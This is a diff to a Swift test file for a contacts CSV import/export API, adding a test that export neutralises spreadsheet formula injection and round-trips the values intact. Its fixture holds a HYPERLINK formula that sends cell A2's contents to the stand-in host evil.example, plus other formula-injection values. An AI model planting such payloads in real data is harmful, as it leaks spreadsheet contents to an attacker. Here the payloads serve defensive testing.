@@ -27,7 +27,7 @@ struct ContactImportAPITests {
             #expect(first.headers[.contentType] == "text/csv; charset=utf-8")
             let lines = first.text.components(separatedBy: "\r\n")
             #expect(lines[0] == "email,first_name,last_name,phone,tags,lists,unsubscribed_lists,Membership Type,Fitness Goal,Birthday")
-            #expect(lines[1] == "jürgen.müller@example.de,Jürgen,\"Müller, Sr.\",+49 30 1234,New Member|VIP,Members,Newsletter,premium,\"Run \"\"fast\"\", 10 km\",")
+            #expect(lines[1] == "jürgen.müller@example.de,Jürgen,\"Müller, Sr.\",'+49 30 1234,New Member|VIP,Members,Newsletter,premium,\"Run \"\"fast\"\", 10 km\",")
             #expect(first.text.contains("zoë@example.com,Zoë 🎉,O'Brien,,Lead,,,,\"line one\nline two\",\r\n"))
 
             let empty = try await api.request(.post, "/v1/accounts", agency: service.agencyA, json: ["name": "New client", "kind": "paid"])
@@ -36,6 +36,40 @@ struct ContactImportAPITests {
             #expect(again.json["created"] as? Int == 3, "\(again.text)")
             let second = try await api.request(.get, "/v1/accounts/\(target)/contacts/export", agency: service.agencyA)
             #expect(second.body == first.body)
+        }
+    }
+
+    /// A file that plants formulas (as an attacker's import or a contact's own name would) is exported
+    /// with every such cell behind a `'`, so a spreadsheet shows text; importing that export gives back
+    /// the values exactly.
+    @Test func formulaCellsAreExportedAsTextAndRoundTripLosslessly() async throws {
+        let service = try await TestService()
+        try await service.test { api in
+            let (source, _) = try await api.fitnessSandbox(agency: service.agencyA)
+            let planted = "email,first_name,last_name,phone,tags,Fitness Goal\r\n"
+                + "eve@example.com,\"=HYPERLINK(\"\"http://evil.example/?x=\"\"&A2,\"\"Click me\"\")\",@SUM(1+1),+49 30 1234,@evil,-1+2\r\n"
+                + "ann@example.com,'=kept,Plain,,VIP,'\r\n"
+            let imported = try await api.importCSV(planted, account: source, agency: service.agencyA, query: "create_missing=true")
+            #expect(imported.json["created"] as? Int == 2, "\(imported.text)")
+
+            let export = try await api.request(.get, "/v1/accounts/\(source)/contacts/export", agency: service.agencyA)
+            let eve = try #require(export.text.components(separatedBy: "\r\n").first { $0.hasPrefix("eve@") })
+            #expect(eve.hasPrefix("eve@example.com,\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A2,\"\"Click me\"\")\",'@SUM(1+1),'+49 30 1234,'@evil,"), "\(eve)")
+            #expect(eve.contains(",'-1+2"), "\(eve)")
+            #expect(export.text.contains("ann@example.com,'=kept,Plain,"), "a value that began with ' was read as '=kept's protection")
+
+            let empty = try await api.request(.post, "/v1/accounts", agency: service.agencyA, json: ["name": "Copy", "kind": "paid"])
+            let target = try #require(empty.json["id"] as? Int)
+            let again = try await api.importCSV(export.text, account: target, agency: service.agencyA, query: "create_missing=true")
+            #expect(again.json["created"] as? Int == 2, "\(again.text)")
+            let second = try await api.request(.get, "/v1/accounts/\(target)/contacts/export", agency: service.agencyA)
+            #expect(second.body == export.body)
+
+            let token = try await api.accountToken(target, agency: service.agencyA)
+            let contacts = try await api.request(.get, "/api/3/contacts?email=eve@example.com", apiToken: token)
+            let contact = try #require((contacts.json["contacts"] as? [[String: Any]])?.first)
+            #expect(contact["firstName"] as? String == "=HYPERLINK(\"http://evil.example/?x=\"&A2,\"Click me\")")
+            #expect(contact["phone"] as? String == "+49 30 1234")
         }
     }
 
